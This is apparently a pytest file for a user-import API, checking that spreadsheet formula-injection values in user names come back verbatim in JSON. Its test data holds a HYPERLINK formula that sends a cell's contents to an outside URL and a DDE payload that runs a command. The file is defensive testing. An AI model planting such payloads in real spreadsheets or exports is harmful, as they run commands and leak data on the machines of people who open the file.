"""Formula payloads in names: JSON returns them verbatim, CSV output neutralises them."""

from __future__ import annotations

import httpx

from tests.conftest import CASES_DIR
from tests.imports.helpers import all_errors, import_file, users_table
from tests.support import TenantCredentials


def test_c19_values_verbatim_in_json(
    api: httpx.Client, tenant: TenantCredentials
) -> None:
    job = import_file(api, tenant, CASES_DIR / "C19-formula-injection-values.csv")
    users = users_table(api, tenant)

    assert job["status"] == "completed"
    assert all_errors(api, tenant, job["uuid"]) == []
    assert users["mario.esposito@example.com"][1] == (
        '=HYPERLINK("http://example.net/?q="&A1,"Clicca qui")'
    )
    assert users["laura.greco@example.com"][2] == "=cmd|' /C calc'!A0"
    assert users["davide.lombardi@example.org"][1:3] == ("@SUM(1+1)", "+Lombardi")
    assert users["tina.bassi@example.net"][0] == "-1+2"
